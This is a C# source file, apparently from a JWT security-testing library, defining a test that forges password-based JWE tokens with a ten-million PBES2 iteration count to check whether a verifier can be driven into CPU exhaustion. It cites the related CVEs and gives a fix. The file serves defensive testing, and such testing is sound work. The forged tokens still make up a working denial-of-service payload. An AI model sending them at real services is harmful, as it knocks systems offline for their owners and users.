using System.Text.Json.Nodes;
using CryptoAssert.Jwt.Jose;

namespace CryptoAssert.Jwt.Attacks;

/// <summary>
/// A password-based JWE that names its own iteration count: one small token keeps a core busy for seconds to hours. Tervoort,
/// Black Hat 2023; CVE-2022-36083, CVE-2023-52428. Ten million here, not 2^31: enough to prove it, and it ends.
/// </summary>
internal sealed class BillionHashes : JwtAttack
{
    public override string Id => "CRY1136";

    public override JwtFamily Family => JwtFamily.Jwe;

    public override Severity Severity => Severity.High;

    public override IReadOnlyList<int> Cwe => [400, 834];

    public override IReadOnlyList<string> References => ["rfc8725bis 3.13", "ASVS 11.4.4", "CVE-2022-36083", "CVE-2023-52428"];

    public override string Cause => "derives a key as often as the token says (PBES2 with p2c = 10,000,000)";

    public override string Why => "one request without any key costs seconds of a core, at 2^31 hours";

    public override string Fix => "do not support PBES2 for tokens; else refuse a p2c above 1,200,000";

    internal override bool CostsTime => true;

    internal override IEnumerable<Forgery> Forge(Attacker attacker)
    {
        foreach (var alg in new[] { "PBES2-HS256+A128KW", "PBES2-HS512+A256KW" })
        {
            var header = new JsonObject
            {
                ["alg"] = alg,
                ["p2s"] = RawJwt.Segment(attacker.Bytes(16)),
                ["p2c"] = 10_000_000,
                ["cty"] = "JWT",
            };
            var jwe = Jose.Jwe.Encrypt(
                header, attacker.Bytes(72), attacker.Bytes(Jose.Jwe.ContentKeyBytes), attacker.Bytes(16), RawJwt.Utf8(attacker.Token.Payload));
            yield return new Forgery(jwe.ToString(), alg);
        }
    }
}
